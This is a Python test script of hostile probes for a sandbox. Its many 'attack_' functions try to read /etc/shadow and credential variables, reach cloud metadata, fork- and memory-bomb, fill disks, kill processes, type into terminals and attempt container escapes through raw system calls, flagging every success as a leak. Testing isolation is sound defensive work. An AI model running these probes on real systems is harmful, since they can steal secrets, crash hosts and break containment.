"""Programs that mean harm. Each attack_ function is one; it calls leak() when it got what it must not get.

Called as: hostile.py NAME CANARY_TAIL FACTS, where the secret is "CANARY-" + CANARY_TAIL (so that this text does not hold it) and FACTS
is a JSON object about the host: file, pid, port, udp, abstract, outbox.
"""

import contextlib
import ctypes
import errno
import json
import mmap
import os
import platform
import signal
import socket
import struct
import subprocess
import sys
import threading
import time

SECRET = "CANARY-" + sys.argv[2]
HOST = json.loads(sys.argv[3])
LIBC = ctypes.CDLL(None, use_errno=True)
X86 = platform.machine() == "x86_64"
# (x86_64, aarch64)
CALLS = {
    "io_uring_setup": (425, 425), "unshare": (272, 97), "setns": (308, 268), "mount": (165, 40), "pivot_root": (155, 41),
    "ptrace": (101, 117), "process_vm_readv": (310, 270), "keyctl": (250, 219), "add_key": (248, 217), "bpf": (321, 280),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "clone": (56, 220), "clone3": (435, 435), "reboot": (169, 142),
    "swapon": (167, 224), "init_module": (175, 105), "kexec_load": (246, 104), "open_by_handle_at": (304, 265),
    "clock_settime": (227, 112), "settimeofday": (164, 170), "open_tree": (428, 428), "fsopen": (430, 430), "acct": (163, 89),
    "syslog": (103, 116), "quotactl": (179, 60), "pidfd_getfd": (438, 438), "process_madvise": (440, 440),
}


def leak(what):
    print("LEAK:", what, flush=True)


def call(name, *args):
    """Makes a system call; gives its result, or minus the error."""
    number = CALLS[name][0 if X86 else 1]
    done = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return done if done >= 0 else -ctypes.get_errno()


def refused(name, *args):
    """Leaks when a call is not refused for lack of permission."""
    done = call(name, *args)
    if done not in (-errno.EPERM, -errno.ENOSYS, -errno.EACCES):
        leak(f"{name} gave {done}")


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return None


def attack_read_shadow():
    for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/proc/1/root/etc/shadow", "/../etc/shadow"):
        if read(path):
            leak(path)


def attack_read_host_file():
    tries = [HOST["file"], "/proc/1/root" + HOST["file"], "/proc/self/cwd/../../../.." + HOST["file"]]
    for path in tries:
        if SECRET.encode() in (read(path) or b""):
            leak(path)


def attack_walk_everything():
    for top, folders, files in os.walk("/"):
        if top in ("/usr", "/opt/venv", "/proc"):
            folders.clear()
        for name in files:
            path = os.path.join(top, name)
            if os.path.isfile(path) and SECRET.encode() in (read(path) or b""):
                leak(path)


def attack_read_home():
    for path in ("/root", "/home", "/var", "/mnt", "/srv", "/run", "/work", "/boot"):
        with contextlib.suppress(OSError):
            leak(f"{path} holds {os.listdir(path)[:3]}")


def attack_other_inbox():
    for folder in ("/cell", "/cell/inbox", "/tmp", "/cell/inbox/..", os.path.dirname(HOST["file"])):
        for top, _, files in os.walk(folder):
            for name in files:
                if SECRET.encode() in (read(os.path.join(top, name)) or b""):
                    leak(os.path.join(top, name))


def attack_own_environment():
    if SECRET in str(os.environ):
        leak("own environment")
    for name in os.environ:
        if any(word in name.upper() for word in ("AWS", "TOKEN", "SECRET", "KEY", "PASSWORD", "CREDENTIAL")):
            leak(name)


def attack_proc_environ():
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(HOST["pid"]), "1"]:
        if SECRET.encode() in (read(f"/proc/{pid}/environ") or b""):
            leak(f"environment of {pid}")


def attack_proc_of_the_host():
    if len([p for p in os.listdir("/proc") if p.isdigit()]) > 4:
        leak("other processes are visible")
    with contextlib.suppress(OSError):
        if os.path.exists("/proc/1/root/home") or os.path.exists("/proc/1/cwd/../../home"):
            leak("the first process has the host's root")
    with contextlib.suppress(OSError):
        for fd in os.listdir("/proc/1/fd"):
            at = os.readlink(f"/proc/1/fd/{fd}")
            if at != "/dev/null" and not at.startswith(("pipe:", "anon_inode:[eventfd]")):
                leak(f"the first process holds {at}")


def connect(host, port, kind=socket.SOCK_STREAM, data=b"GET / HTTP/1.0\r\n\r\n"):
    with socket.socket(socket.AF_INET, kind) as s:
        s.settimeout(0.5)
        try:
            s.connect((host, port))
            s.send(data)
            if kind == socket.SOCK_STREAM or s.recv(1):
                leak(f"{host}:{port} answered")
        except OSError:
            pass


def attack_metadata_instance():
    connect("169.254.169.254", 80)


def attack_metadata_task():
    connect("169.254.170.2", 80)


def attack_tcp_out():
    connect("192.0.2.1", 80)
    connect("192.0.2.1", 443)


def attack_udp_and_dns_out():
    connect("192.0.2.53", 53, socket.SOCK_DGRAM)
    connect("127.0.0.1", HOST["udp"], socket.SOCK_DGRAM, SECRET.encode())
    socket.setdefaulttimeout(1)
    with contextlib.suppress(OSError):
        leak(str(socket.getaddrinfo("example.com", 80)))


def attack_host_loopback():
    for port in (HOST["port"], 22, 80, 5432, 6379, 8080, 8265, 9000, 10001):
        connect("127.0.0.1", port)


def attack_abstract_socket():
    with socket.socket(socket.AF_UNIX) as s:
        with contextlib.suppress(OSError):
            s.connect("\0" + HOST["abstract"])
            leak("abstract socket")


def attack_host_unix_sockets():
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", HOST["socket"]):
        with socket.socket(socket.AF_UNIX) as s, contextlib.suppress(OSError):
            s.connect(path)
            leak(path)


def attack_raw_and_odd_sockets():
    for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (17, socket.SOCK_RAW), (40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET),
                         (16, socket.SOCK_RAW), (31, socket.SOCK_RAW)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, 1 if family == socket.AF_INET else 0).close()
            if family != 16:  # netlink to an empty namespace is harmless, and Ray asks it for addresses
                leak(f"socket family {family}")


def attack_add_a_network():
    for command in (["ip", "link", "add", "d0", "type", "dummy"], ["ip", "addr", "add", "10.0.0.1/24", "dev", "lo"]):
        with contextlib.suppress(OSError):
            if subprocess.run(command, capture_output=True, check=False).returncode == 0:
                leak(str(command))


def attack_fork_bomb():
    made = 0
    try:
        while made < 4000:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            made += 1
    except OSError:
        pass
    print("forked", made, flush=True)
    if made > 200:
        leak(f"{made} processes")
    time.sleep(60)


def attack_recursive_fork_bomb():
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def attack_thread_bomb():
    made = 0
    try:
        while made < 4000:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            made += 1
    except RuntimeError:
        pass
    if made > 200:
        leak(f"{made} threads")
    os._exit(0)


def attack_memory_bomb():
    held = []
    for n in range(64):
        block = mmap.mmap(-1, 16 << 20)
        for at in range(0, 16 << 20, 4096):
            block[at] = 1
        held.append(block)
        time.sleep(0.005)
        if n >= 40:
            time.sleep(1)  # a machine without cgroups needs a moment to notice
            leak(f"{(n + 1) * 16} MiB")
            break


def attack_memory_bomb_in_many_processes():
    for _ in range(20):
        if os.fork() == 0:
            block = mmap.mmap(-1, 64 << 20)
            for at in range(0, 64 << 20, 4096):
                block[at] = 1
            print("holds 64 MiB", flush=True)
            time.sleep(60)
    time.sleep(60)


def fill(folder):
    block, size = os.urandom(1 << 20), 0
    try:
        with open(f"{folder}/big", "wb", buffering=0) as file:
            while size < 256 << 20:
                size += file.write(block)
    except OSError as error:
        print(error, size >> 20, "MiB", flush=True)
    if size > 40 << 20:
        leak(f"{folder} took {size >> 20} MiB")


def attack_fill_tmp():
    fill("/tmp")


def attack_fill_shm():
    fill("/dev/shm")


def attack_fill_outbox():
    fill(HOST["outbox"])


def attack_fill_work():
    fill("/cell/work")


def attack_fill_run():
    fill("/cell/run")


def attack_a_million_files():
    made = 0
    try:
        for made in range(1_000_000):
            os.mknod(f"{HOST['outbox']}/{made}")
    except OSError:
        pass
    if made > 900_000:
        leak(f"{made} files")


def attack_endless_loop():
    while True:
        pass


def attack_endless_sleep():
    for number in range(1, 64):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        time.sleep(60)


def attack_endless_output():
    while True:
        os.write(1, b"x" * 65536)


def attack_endless_line_of_control_characters():
    while True:
        os.write(2, b"\x1b[2J\x00\xff\r" * 8192)


def attack_double_fork():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setsid()
            for fd in range(3):
                os.close(fd)
            time.sleep(120)
        os._exit(0)
    time.sleep(0.2)


def attack_many_orphans():
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(120)
            os._exit(0)
    os._exit(0)


def attack_symlinks_in_the_outbox():
    out = HOST["outbox"]
    for name, target in (("passwd", "/etc/passwd"), ("file", HOST["file"]), ("up", "../../.."), ("proc", "/proc/self/environ"),
                         ("parent", "/proc/1/root" + HOST["file"])):
        os.symlink(target, f"{out}/{name}")


def attack_symlinked_run_folder():
    os.symlink(os.path.dirname(HOST["file"]), f"{HOST['outbox']}/run-2")


def attack_hardlinks_in_the_outbox():
    for path in ("/etc/passwd", "/cell/inbox/given", "/opt/venv/pyvenv.cfg"):
        with contextlib.suppress(OSError):
            os.link(path, f"{HOST['outbox']}/{os.path.basename(path)}")
            leak(f"linked {path}")


def attack_fifo_in_the_outbox():
    os.mkfifo(f"{HOST['outbox']}/fifo")
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(f"{HOST['outbox']}/socket")


def attack_devices_in_the_outbox():
    for name, kind, number in (("disk", 0o060666, os.makedev(254, 0)), ("mem", 0o020666, os.makedev(1, 1)), ("kmsg", 0o020666, os.makedev(1, 11))):
        with contextlib.suppress(OSError):
            os.mknod(f"{HOST['outbox']}/{name}", kind, number)
            leak(f"made device {name}")


def attack_sparse_and_strange_results():
    out = HOST["outbox"]
    with contextlib.suppress(OSError), open(f"{out}/sparse", "wb") as file:
        file.truncate(1 << 40)
    os.mkdir(f"{out}/folder")
    open(f"{out}/{'n' * 255}", "w").close()
    open(f"{out}/-rf\n\x1b[31m", "w").close()


def attack_socket_led_astray():
    with contextlib.suppress(OSError):
        os.symlink(HOST["socket"], "/cell/run/runner.sock")
    time.sleep(60)


def attack_io_uring():
    refused("io_uring_setup", 8, ctypes.create_string_buffer(120))


def attack_user_namespace():
    for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x80, 0x10020000):
        refused("unshare", flags)
    refused("clone3", ctypes.create_string_buffer(struct.pack("<QQQQQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88), 88)
    done = call("clone", 0x10000000 | 17, 0, 0, 0, 0)
    if done == 0:
        os._exit(0)
    if done > 0:
        leak("clone made a user namespace")


def attack_mount():
    refused("mount", b"none", b"/tmp", b"tmpfs", 0, b"")
    refused("mount", b"/", b"/tmp", b"", 4096, b"")
    refused("pivot_root", b"/tmp", b"/tmp")
    refused("open_tree", -100, b"/", 1)
    refused("fsopen", b"tmpfs", 0)


def attack_ptrace():
    child = os.fork()
    if child == 0:
        time.sleep(5)
        os._exit(0)
    refused("ptrace", 16, child, 0, 0)
    refused("ptrace", 16, 1, 0, 0)
    refused("process_vm_readv", child, 0, 0, 0, 0, 0)
    refused("pidfd_getfd", 0, 0, 0)
    os.kill(child, 9)


def attack_keyrings():
    refused("keyctl", 0, -3, 0)
    refused("add_key", b"user", b"x", b"y", 1, -3)


def attack_bpf_and_perf():
    refused("bpf", 0, ctypes.create_string_buffer(120), 120)
    refused("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0)
    refused("userfaultfd", 0)


def attack_chroot_escape():
    for act in (lambda: os.chroot("/tmp"), lambda: os.mkdir("/escape")):
        with contextlib.suppress(OSError):
            act()
            leak("chroot or a folder in the root")


def attack_setuid_programs():
    for name in ("su", "mount", "umount", "passwd", "newgrp", "chsh", "sudo", "pkexec"):
        path = f"/usr/bin/{name}"
        with contextlib.suppress(OSError):
            if os.stat(path).st_mode & 0o4000 and not os.statvfs(path).f_flag & os.ST_NOSUID:
                leak(f"{path} may change the user")
    for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
        with contextlib.suppress(OSError):
            act()
            leak("became somebody else")


def attack_capabilities():
    status = read("/proc/self/status").decode()
    for line in status.splitlines():
        if line.startswith("Cap") and int(line.split()[1], 16):
            leak(line)
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -20)
        leak("raised its priority")


def attack_kill_others():
    for pid in [HOST["pid"], 1, *[int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]]:
        with contextlib.suppress(OSError):
            os.kill(pid, 9)


def attack_write_the_environment():
    for path in (sys.prefix + "/x", "/opt/orcray/runner/x.py", "/usr/lib/x", "/etc/x", "/x", "/cell/x", "/cell/inbox/x", "/dev/x", "/etc/passwd"):
        with contextlib.suppress(OSError), open(path, "w"):
            leak(f"wrote {path}")
    with contextlib.suppress(OSError):
        os.remove("/cell/inbox/given")
        leak("removed a given file")


def attack_clock_and_name():
    refused("clock_settime", 0, ctypes.create_string_buffer(struct.pack("<qq", 0, 0), 16))
    refused("settimeofday", ctypes.create_string_buffer(16), 0)
    with contextlib.suppress(OSError):
        socket.sethostname("evil")
        leak("renamed the machine")


def attack_the_machine():
    refused("reboot", 0xFEE1DEAD - (1 << 32), 672274793, 0x01234567)
    refused("swapon", b"/tmp/x", 0)
    refused("init_module", 0, 0, b"")
    refused("kexec_load", 0, 0, 0, 0)
    refused("acct", b"/tmp/x")
    refused("quotactl", 0, 0, 0, 0)
    refused("syslog", 3, ctypes.create_string_buffer(4096), 4096)
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/sys/power/state"):
        with contextlib.suppress(OSError), open(path, "w"):
            leak(f"opened {path} for writing")


def attack_enter_namespaces():
    for name in ("net", "mnt", "pid", "user", "uts"):
        for pid in (1, HOST["pid"]):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/ns/{name}") as file:
                refused("setns", file.fileno(), 0)
    refused("setns", -1, 0)


def attack_file_handles():
    refused("open_by_handle_at", -100, ctypes.create_string_buffer(32), 0)


def attack_devices():
    for path in ("/dev/mem", "/dev/kmsg", "/dev/port", "/dev/vda", "/dev/sda", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/proc/kcore", "/dev/loop0"):
        if read(path) is not None:
            leak(path)


def attack_type_into_the_terminal():
    import fcntl

    for path in ("/dev/tty", "/dev/pts/0", "/dev/console"):
        with contextlib.suppress(OSError):
            with open(path, "wb", buffering=0) as terminal:
                fcntl.ioctl(terminal, 0x5412, b"x")
                leak("typed")
    done = LIBC.ioctl(0, ctypes.c_ulong((1 << 32) | 0x5412), b"x")
    if done == 0 or ctypes.get_errno() != errno.EPERM:
        leak(f"a high bit got past the filter: {ctypes.get_errno()}")


def machine_code(code):
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page))), page


def attack_foreign_calls():
    """getpid by the 32-bit and by the x32 way: both must be the end of the process that tries."""
    if not X86:
        return
    for code in (b"\xb8\x14\x00\x00\x00\xcd\x80\xc3", b"\xb8\x27\x00\x00\x40\x0f\x05\xc3"):
        child = os.fork()
        if child == 0:
            run, _page = machine_code(code)
            run()
            os._exit(0)
        if os.waitpid(child, 0)[1] & 0x7F != signal.SIGSYS:
            leak(f"{code!r} was answered")


def attack_inherited_files():
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            at = os.readlink(f"/proc/self/fd/{fd}")
            if int(fd) > 2 and not at.startswith("/proc/"):
                leak(f"descriptor {fd} is {at}")


def main():
    print("begins", sys.argv[1], flush=True)
    globals()["attack_" + sys.argv[1]]()
    print("ends", flush=True)


main()
